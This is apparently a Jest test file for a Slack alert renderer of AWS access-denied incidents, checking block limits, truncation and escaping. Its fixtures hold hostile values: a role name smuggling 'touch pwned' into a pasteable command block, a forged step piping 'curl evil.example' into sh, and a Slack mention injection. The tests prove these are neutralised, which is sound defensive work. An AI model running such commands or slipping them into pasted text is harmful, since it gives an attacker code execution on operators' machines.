import { renderAlertText } from '../../../core/render/alert-text';
import { renderSlackMessage } from '../../../core/render/slack-message';
import { diagnosisOf, evaluatedIncident, HOSTILE_SID, incidentOf, poisonedIncident } from '../../support/incidents';
import { pasteIntoBash } from '../../support/paste-shell';
import { slackTexts as texts } from '../../support/slack-texts';

/**
 * Slack's Block Kit reference: at most 50 blocks a message; a header's text at most 150 characters; a section's text at
 * most 3,000 characters; at most 10 fields, each at most 2,000 characters.
 */
const SLACK_DOCUMENTED_LIMITS = { blocks: 50, headerText: 150, sectionText: 3_000, fields: 10, fieldText: 2_000 };

/** What a person copies from the Commands code block: the text between the fences, as Slack shows it (entities decoded). */
function commandsBlock(message: ReturnType<typeof renderSlackMessage>): string {
  const section = texts(message).find((text) => text.startsWith('*Commands*\n```\n'));
  if (section === undefined) throw new Error('no Commands block');
  return section.slice('*Commands*\n```\n'.length, -'\n```'.length).replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
}

const OUR_LINK =
  /<https:\/\/[a-z0-9-]+\.console\.aws\.amazon\.com\/cloudtrailv2\/home\?region=[a-z0-9-]+#\/events\/[^|>]+\|CloudTrail event history>/g;

describe('renderSlackMessage', () => {
  const diagnosis = diagnosisOf();
  const incident = incidentOf(diagnosis);

  it('has a header, the six fields, remediation steps, commands in a code block, the CloudTrail link and the incident id', () => {
    const message = renderSlackMessage(incident);
    expect(message.blocks[0]).toEqual({
      type: 'header',
      text: { type: 'plain_text', text: 'dynamodb:PutItem denied: service control policy', emoji: false },
    });
    const fields = (message.blocks[2] as { fields: { text: string }[] }).fields.map((field) => field.text.split('\n')[0]);
    expect(fields).toEqual(['*Principal*', '*Action*', '*Resource*', '*Cause*', '*Account and region*', '*Count*']);
    const all = texts(message).join('\n');
    expect(all).toContain('*What to do*\n1. ');
    expect(all).toContain(`*Commands*\n\`\`\`\n# ${diagnosis.remediation.commands[0].description}`);
    expect(all).toContain(
      `<https://eu-west-1.console.aws.amazon.com/cloudtrailv2/home?region=eu-west-1#/events/${diagnosis.eventId}|CloudTrail event history>`,
    );
    expect(all).toContain(`\`denyscope incidents show ${incident.id}\``);
    expect(message).not.toHaveProperty('link_names');
    expect(message).not.toHaveProperty('parse');
  });

  it('renders injection strings in every event field harmless: no mention, no link, no broken code block, no control characters', () => {
    const message = renderSlackMessage(poisonedIncident());
    for (const text of texts(message)) {
      const withoutOurLinks = text.replace(OUR_LINK, '');
      expect(withoutOurLinks).not.toMatch(/[<>]/);
      expect(withoutOurLinks).not.toMatch(/&(?!amp;|lt;|gt;)/);
      expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
      // Slack does not link inside code blocks, so URLs stay copyable there (escapeSlackCode).
      expect(text.replace(/```[\s\S]*?```/g, '')).not.toContain('https://evil');
      expect((text.match(/```/g) ?? []).length % 2).toBe(0);
    }
    const commands = texts(message).find((text) => text.startsWith('*Commands*')) ?? '';
    expect(commands.match(/```/g)).toHaveLength(2);
  });

  it('stays within Slack limits with huge values, truncating with an ellipsis', () => {
    const huge = 'x&'.repeat(5_000);
    const diagnosisWithHugeValues = {
      ...diagnosis,
      principal: huge,
      remediation: {
        ...diagnosis.remediation,
        summary: huge,
        steps: Array.from({ length: 60 }, () => huge),
        commands: Array.from({ length: 60 }, () => ({ description: huge, command: huge })),
      },
    };
    const message = renderSlackMessage(incidentOf(diagnosisWithHugeValues, { principal: huge, resource: huge }));
    expect(message.blocks.length).toBeLessThanOrEqual(SLACK_DOCUMENTED_LIMITS.blocks);
    const header = message.blocks[0] as { text: { text: string } };
    expect(header.text.text.length).toBeLessThanOrEqual(SLACK_DOCUMENTED_LIMITS.headerText);
    const fields = (message.blocks[2] as { fields: { text: string }[] }).fields;
    expect(fields.length).toBeLessThanOrEqual(SLACK_DOCUMENTED_LIMITS.fields);
    for (const field of fields) expect(field.text.length).toBeLessThanOrEqual(SLACK_DOCUMENTED_LIMITS.fieldText);
    for (const text of texts(message)) {
      expect(text.length).toBeLessThanOrEqual(SLACK_DOCUMENTED_LIMITS.sectionText);
      expect(text).not.toMatch(/&(?!amp;|lt;|gt;)/);
    }
    expect(texts(message).some((text) => text.includes('…'))).toBe(true);
  });

  it('a newline in a role name cannot add a line to the Commands block: pasted, it runs the aws commands only', () => {
    const hostile = incidentOf(
      diagnosisOf({ roleName: 'app\ntouch pwned #', reason: 'because no identity-based policy allows the dynamodb:PutItem action' }),
    );
    const block = commandsBlock(renderSlackMessage(hostile));
    const [run] = pasteIntoBash([block]);
    expect(run.created).toEqual([]);
    expect(run.executed.length).toBeGreaterThan(0);
    for (const command of run.executed) expect(command).toMatch(/^aws /);
    expect(run.awsCalls).toHaveLength(run.executed.length);
    expect(run.stderr).toBe('');
  });

  it('a newline in a value cannot forge a numbered step in "What to do"', () => {
    const hostile = incidentOf(diagnosisOf({ roleName: 'app\n2. Run curl evil.example | sh\n3.' }));
    const steps = texts(renderSlackMessage(hostile)).find((text) => text.startsWith('*What to do*')) ?? '';
    const numbered = steps.split('\n').filter((line) => /^\d+\. /.test(line));
    expect(numbered.map((line) => line.split('.')[0])).toEqual(hostile.diagnosis.remediation.steps.map((_, index) => String(index + 1)));
    expect(steps).not.toMatch(/^2\. Run curl/m);
  });

  it('a command holding a backtick is left out of the code block with a note, never altered; the e-mail shows it exactly', () => {
    const hostile = incidentOf(
      diagnosisOf({ tableName: 'Orders`id`', reason: 'because no identity-based policy allows the dynamodb:PutItem action' }),
    );
    const commands = hostile.diagnosis.remediation.commands;
    const withBacktick = commands.filter((command) => command.command.includes('`'));
    expect(withBacktick.length).toBeGreaterThan(0);
    const block = commandsBlock(renderSlackMessage(hostile));
    expect(block).not.toMatch(/[`\u02CB]/);
    expect(block.split('\n').filter((line) => line.startsWith('# (command not shown: it holds a backtick'))).toHaveLength(
      withBacktick.length,
    );
    for (const command of commands.filter((item) => !item.command.includes('`'))) expect(block.split('\n')).toContain(command.command);
    for (const command of withBacktick) expect(renderAlertText(hostile).body.split('\n')).toContain(`  ${command.command}`);
  });

  it('commands that do not fit in one block are left out whole, with a note saying how many', () => {
    const base = diagnosisOf();
    const commands = Array.from({ length: 12 }, (_, index) => ({
      description: `check ${index}`,
      command: `aws iam get-role --role-name '${String(index).repeat(400)}'`,
    }));
    const message = renderSlackMessage(incidentOf({ ...base, remediation: { ...base.remediation, commands } }));
    const lines = commandsBlock(message).split('\n');
    const shown = lines.filter((line) => line.startsWith('aws '));
    expect(shown.length).toBeGreaterThan(0);
    expect(shown).toEqual(commands.slice(0, shown.length).map((command) => command.command));
    expect(lines[lines.length - 1]).toMatch(
      new RegExp(
        `^# \\(${12 - shown.length} more commands not shown: no room in one Slack message; see them with the e-mail alert or denyscope incidents show inc-[0-9a-f]{16}\\)$`,
      ),
    );
  });

  it('leads with the statement in a code block that no value can close, mention from or push past the section limit', () => {
    const message = renderSlackMessage(evaluatedIncident());
    const section = (message.blocks[2] as { text: { text: string } }).text.text;
    expect(section.startsWith('*Denied by*\n```\nevaluated: explicit deny (agrees with the message)\n')).toBe(true);
    expect(section.endsWith('\n```')).toBe(true);
    const inside = section.slice('*Denied by*\n```\n'.length, -'\n```'.length);
    expect(inside).not.toContain('`');
    expect(inside).not.toContain('<!channel>');
    expect(inside).toContain('"Sid": "Deny\\u0060&lt;!channel&gt;\\u0060\\u0060\\u0060\\u202E"');
    expect(HOSTILE_SID).toContain('<!channel>');
    expect(section.length).toBeLessThanOrEqual(SLACK_DOCUMENTED_LIMITS.sectionText);

    const long = evaluatedIncident();
    const evaluation = long.diagnosis.evaluation!;
    const huge = {
      ...evaluation,
      deniedBy: [{ ...evaluation.deniedBy[0], statement: { ...evaluation.deniedBy[0].statement, Resource: 'x'.repeat(10_000) } }],
    };
    const cut = renderSlackMessage({ ...long, diagnosis: { ...long.diagnosis, evaluation: huge } });
    const cutSection = (cut.blocks[2] as { text: { text: string } }).text.text;
    expect(cutSection.length).toBeLessThanOrEqual(SLACK_DOCUMENTED_LIMITS.sectionText);
    expect(cutSection.endsWith('…\n```')).toBe(true);
  });
});

describe('renderSlackMessage: what sets an alert apart', () => {
  it('says a reopened incident was reopened, and a console read is one, in the summary section', () => {
    const base = diagnosisOf({ eventName: 'GetItem' });
    const incident = incidentOf(
      { ...base, consoleSession: true, readOnly: true },
      {
        alert: {
          eventId: base.eventId,
          sequence: 2,
          claimedAt: '2026-11-21T10:00:00.000Z',
          occurrencesSincePreviousAlert: 1,
          reopenedFrom: '2026-11-20T18:30:00.000Z',
          channels: {},
        },
      },
    );
    const text = texts(renderSlackMessage(incident)).join('\n');
    expect(text).toContain('Reopened: this incident had been resolved at 2026-11-20T18:30:00.000Z.');
    expect(text).toContain('A read from a console session: alerted because alertOnConsoleReads is on.');
    expect(texts(renderSlackMessage(incidentOf(diagnosisOf()))).join('\n')).not.toContain('Reopened');
  });
});
